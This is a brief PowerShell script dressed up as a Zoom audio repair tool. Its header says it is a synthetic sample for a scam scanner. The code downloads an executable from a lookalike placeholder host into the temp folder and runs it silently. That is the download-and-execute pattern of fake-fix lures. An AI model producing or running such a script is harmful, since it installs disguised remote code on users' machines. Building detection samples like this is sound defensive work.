# Zoom audio repair tool (scamscan synthetic sample - harmless text, not malware)
# Downloads the repair tool and runs it.
$dst = Join-Path $env:TEMP 'ZoomRepair.exe'
Start-BitsTransfer -Source 'https://zoom-repair.example/dl/ZoomRepair.exe' -Destination $dst
Start-Process -FilePath $dst -ArgumentList '/quiet'
